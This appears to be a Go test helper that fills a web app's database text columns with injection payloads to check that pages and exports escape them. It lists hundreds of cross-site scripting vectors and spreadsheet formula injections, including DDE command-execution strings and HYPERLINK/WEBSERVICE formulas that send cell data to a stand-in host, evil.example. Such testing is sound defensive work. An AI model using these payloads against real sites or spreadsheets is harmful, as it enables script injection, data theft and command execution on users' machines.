package sitetest

import (
	"fmt"
	"strings"

	"steward/internal/db"
)

// Executed scripts call the marker, which a test looks for.
const marker = "__pwned"

// scripts returns at least 300 texts, each of which runs the marker somewhere
// in a page that does not escape it: as text, in an attribute of either quote,
// in an address, in a script, in a style, in a comment.
func scripts() []string {
	call := "window." + marker + "=1"
	vectors := []string{
		`<script>CALL</script>`, `<ScRiPt>CALL</sCrIpT>`, `<script src="data:text/javascript,CALL"></script>`, `<script/x>CALL</script>`, `<script nonce="">CALL</script>`,
		`<img src=x onerror=CALL>`, `<img src=x onerror="CALL">`, `<IMG SRC=x ONERROR=CALL>`, `<img/src=x/onerror=CALL>`, `<svg onload=CALL>`, `<svg/onload=CALL>`,
		`<svg><script>CALL</script></svg>`, `<svg><animate onbegin=CALL attributeName=x dur=1s>`, `<body onload=CALL>`, `<iframe src="javascript:CALL"></iframe>`, `<iframe srcdoc="<script>parent.CALL</script>">`,
		`<input autofocus onfocus=CALL>`, `<select autofocus onfocus=CALL>`, `<textarea autofocus onfocus=CALL>`, `<details open ontoggle=CALL>`, `<video><source onerror=CALL></video>`, `<audio src=x onerror=CALL>`,
		`<object data="javascript:CALL">`, `<embed src="javascript:CALL">`, `<math><mtext></mtext><mglyph><style><img src=x onerror=CALL></style></mglyph></math>`, `<a href="javascript:CALL" id=go>x</a>`,
		`<form action="javascript:CALL"><button>x</button></form>`, `<button formaction="javascript:CALL">x</button>`, `<meta http-equiv="refresh" content="0;url=javascript:CALL">`, `<base href="https://evil.example/">`,
		`<link rel=stylesheet href="data:text/css,*{}">`, `<style>@import 'x'</style><img src=x onerror=CALL>`, `<div style="background:url(javascript:CALL)">`, `<marquee onstart=CALL>`, `<template><script>CALL</script></template>`,
		`<noscript><p title="</noscript><img src=x onerror=CALL>">`, `<div hx-get="/x" hx-trigger="load" hx-on::load="CALL">`, `<div hx-on:click="CALL" data-hx-on:load="CALL">`, `<dialog open onclose=CALL>`, `<x onpointerrawupdate=CALL tabindex=1 autofocus onfocus=CALL>`,
		`javascript:CALL`, `JaVaScRiPt:CALL`, "java\tscript:CALL", "\x01javascript:CALL", `data:text/html,<script>CALL</script>`, `vbscript:CALL`, `//evil.example/x.js`, `\\evil.example\x`,
		`CALL`, `');CALL;//`, `";CALL;//`, "`;CALL;//", `${CALL}`, `{{constructor.constructor('CALL')()}}`, `</script><script>CALL</script>`, `</title><script>CALL</script>`, `</textarea><script>CALL</script>`,
		`</style><script>CALL</script>`, `--><script>CALL</script><!--`, `]]><script>CALL</script>`, `<!--><img src=x onerror=CALL>-->`, `&lt;script&gt;CALL&lt;/script&gt;`, `%3Cscript%3ECALL%3C/script%3E`, `\u003cscript\u003eCALL\u003c/script\u003e`,
	}
	wrappers := []string{"%s", `"%s`, `'%s`, `">%s`, `'>%s<"`, `x" onmouseover=CALL autofocus onfocus=CALL y="%s`}
	var out []string
	for _, w := range wrappers {
		for _, v := range vectors {
			out = append(out, strings.ReplaceAll(fmt.Sprintf(w, v), "CALL", call))
		}
	}
	return out
}

// formulas returns at least 200 texts that a spreadsheet would calculate, or
// that would break out of their cell.
func formulas() []string {
	bodies := []string{"1+1", "cmd|' /C calc'!A0", `HYPERLINK("http://evil.example?x="&A1,"open")`, `IMPORTXML("http://evil.example","//a")`, "SUM(A1:A9)", `WEBSERVICE("http://evil.example")`, "DDE(\"cmd\";\"/C calc\";\"x\")", "A1", "'x'!A1", `2","x`, "1;2", "1\r\n=2", "1\n+2"}
	starts := []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "  +", "\u00a0=", "\ufeff=", "\u200b=", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\"=", "=\"", ";="}
	var out []string
	for _, s := range starts {
		for _, b := range bodies {
			out = append(out, s+b)
		}
	}
	return out
}

// freeTexts are the columns whose text a tenant, a form or a rule brings.
var freeTexts = map[string][]string{
	"workspace": {"name", "description", "storage"}, "domain": {"name", "description"}, "app": {"name", "description", "published_by"},
	"item":      {"name", "description", "state", "created_by", "modified_by", "configured_by", "report_type", "endorsement", "certified_by", "label", "storage_mode", "provider", "schema_error"},
	"principal": {"name", "address", "mail", "department", "company"}, "datasource": {"type", "gateway", "location"}, "capacity": {"name", "sku", "state", "region"},
	"pipeline": {"name", "description"}, "pipeline_stage": {"name"}, "pipeline_user": {"role"}, "refreshable": {"name", "last_status", "last_type", "last_error"},
	"setting": {"title", "area", "name"}, "wide_link": {"item_name", "item_kind", "role", "sharer_name", "sharer_address"}, "unused_item": {"name", "kind"},
	"activity": {"activity", "actor", "item_kind", "item_name", "ws_name", "via"}, "violation": {"label", "says", "assignee_name", "reason"},
	"violation_event": {"note", "actor_name"}, "violation_comment": {"body", "author_name"}, "waiver": {"owner_name", "reason", "asked_name", "note"},
	"scan": {"error", "asked_by"}, "scan_part": {"error", "request_id"}, "scan_gap": {"reason"}, "rule_version": {"title"}, "session": {"name", "address"},
}

// ordinals number the rows of tables that have no rowid.
var ordinals = map[string]string{"pipeline_stage": "ord", "pipeline_user": "principal", "scan_part": "length(part)", "scan_gap": "ws", "session": "length(name)"}

// infest puts payloads into every free text, another one into each row,
// beginning with the given one.
func (f *filler) infest(payloads []string, first int) {
	for _, trigger := range f.texts(`SELECT name FROM sqlite_schema WHERE type = 'trigger' AND tbl_name IN ('waiver', 'violation', 'violation_event')`) {
		f.exec(`DROP TRIGGER ` + trigger)
	}
	f.exec(`CREATE TABLE IF NOT EXISTS payload_pool (n INTEGER PRIMARY KEY, text TEXT NOT NULL)`)
	f.exec(`DELETE FROM payload_pool`)
	err := f.d.Write(f.tb.Context(), func(tx *db.Tx) error {
		for i, p := range payloads {
			if _, err := tx.ExecContext(f.tb.Context(), `INSERT INTO payload_pool VALUES ($1, $2)`, i, p); err != nil {
				return err
			}
		}
		for table, columns := range freeTexts {
			row := ordinals[table]
			if row == "" {
				row = table + ".rowid"
			}
			for _, c := range columns {
				first += 7
				if _, err := tx.ExecContext(f.tb.Context(), fmt.Sprintf(`UPDATE %s SET %s = (SELECT text || ' (so)' FROM payload_pool WHERE n = (%d + %s) %% %d)`, table, c, first, row, len(payloads))); err != nil {
					return fmt.Errorf("%s.%s: %w", table, c, err)
				}
			}
		}
		_, err := tx.ExecContext(f.tb.Context(), `UPDATE violation SET evidence = (SELECT json_array(json_object('fact', text, 'value', text)) FROM payload_pool WHERE n = violation.id % $1)`, len(payloads))
		return err
	})
	if err != nil {
		f.tb.Fatal(err)
	}
}
